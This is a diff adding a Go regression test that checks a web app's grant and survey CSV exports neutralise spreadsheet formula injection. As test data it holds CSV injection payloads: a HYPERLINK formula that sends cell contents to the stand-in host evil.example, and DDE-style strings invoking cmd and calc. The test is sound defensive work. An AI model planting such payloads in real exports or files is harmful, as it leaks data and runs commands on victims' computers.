@@ -1,13 +1,18 @@
 package app
 
 import (
+	"context"
+	"encoding/csv"
+	"math/rand/v2"
 	"net/http"
 	"net/url"
 	"strings"
 	"testing"
 
+	"github.com/dijalog/dijalog/internal/csvout"
 	"github.com/dijalog/dijalog/internal/db"
 	"github.com/dijalog/dijalog/internal/db/dbtest"
+	"github.com/dijalog/dijalog/internal/surveys"
 )
 
 // The demo accounts of the role × route checks below; "" is anonymous.
@@ -74,6 +79,73 @@ func TestFinding03CrossLSGResidency(t *testing.T) {
 		_, body := get(t, c, page)
 		if strings.Contains(body, `<option value="ba-fbih-trnovo">`) {
 			t.Error("the manage page offers Trnovo to the Mostar coordinator")
+		}
+	})
+}
+
+// csvFormulaCells parses a CSV body and returns the cells a spreadsheet
+// would run as formulas (those that begin with = + - @, tab or CR and are
+// not numbers).
+func csvFormulaCells(t *testing.T, body string) []string {
+	t.Helper()
+	r := csv.NewReader(strings.NewReader(body))
+	r.FieldsPerRecord = -1
+	recs, err := r.ReadAll()
+	if err != nil {
+		t.Fatalf("csv: %v: %.200s", err, body)
+	}
+	var bad []string
+	for _, rec := range recs {
+		for _, c := range rec {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !csvout.Number(c) {
+				bad = append(bad, c)
+			}
+		}
+	}
+	return bad
+}
+
+const csvPayload = `=HYPERLINK("http://evil.example/?"&A1,"Klik")`
+
+// TestFinding06CSVInjection (HTTP): an applicant's or respondent's text
+// that starts a formula comes out of the support CSV and a survey's
+// responses export behind a quote; the amounts stay numbers.
+func TestFinding06CSVInjection(t *testing.T) {
+	t.Parallel()
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		ta := newTestApp(t, d)
+		ctx := context.Background()
+		in := "year,lsg,funder,recipient,amount,currency,purpose,procedure\n" +
+			`2025,ba-fbih-mostar,@SUM(1+1)*cmd,"` + strings.ReplaceAll(csvPayload, `"`, `""`) + `",12.50,BAM,"+1+cmd|' /C calc'!A0",open_call` + "\n"
+		if n, bad, err := ta.ImportSupport(ctx, strings.NewReader(in)); err != nil || len(bad) > 0 || n != 1 {
+			t.Fatalf("import: %d %v %v", n, bad, err)
+		}
+		status, body := get(t, ta.client(t), ta.srv.URL+"/api/v1/grants/support.csv")
+		if status != http.StatusOK {
+			t.Fatalf("support.csv: %d", status)
+		}
+		if bad := csvFormulaCells(t, body); len(bad) > 0 {
+			t.Errorf("support.csv has formula cells: %q", bad)
+		}
+		if !strings.Contains(body, `"'=HYPERLINK(`) || !strings.Contains(body, "'@SUM(") {
+			t.Errorf("support.csv lost the payload instead of quoting it: %.300s", body)
+		}
+		// A survey answer, exported by its manager.
+		sv := ta.surveyByTemplate(t, surveys.TemplateFinansirajGO)
+		ans := surveys.RandomAnswers(sv.Def, rand.New(rand.NewPCG(1, 2)))
+		ans = append(ans, surveys.Answer{Question: "comments", Value: csvPayload})
+		if _, err := ta.elogeWiring.Surveys.Submit(ctx, sv, surveys.Submission{IdemKey: surveys.NewKey(), Answers: ans, Lang: "bs", BrowserToken: surveys.NewKey(), IP: "10.9.9.9"}); err != nil {
+			t.Fatalf("submit: %v", err)
+		}
+		status, body = get(t, ta.login(t, "admin@demo.dijalog.ba"), ta.srv.URL+"/en/admin/surveys/"+sv.PublicID+"/responses.csv")
+		if status != http.StatusOK {
+			t.Fatalf("responses.csv: %d", status)
+		}
+		if bad := csvFormulaCells(t, body); len(bad) > 0 {
+			t.Errorf("responses.csv has formula cells: %q", bad)
+		}
+		if !strings.Contains(body, `"'=HYPERLINK(`) {
+			t.Errorf("responses.csv lost the payload: %.300s", body)
 		}
 	})
 }
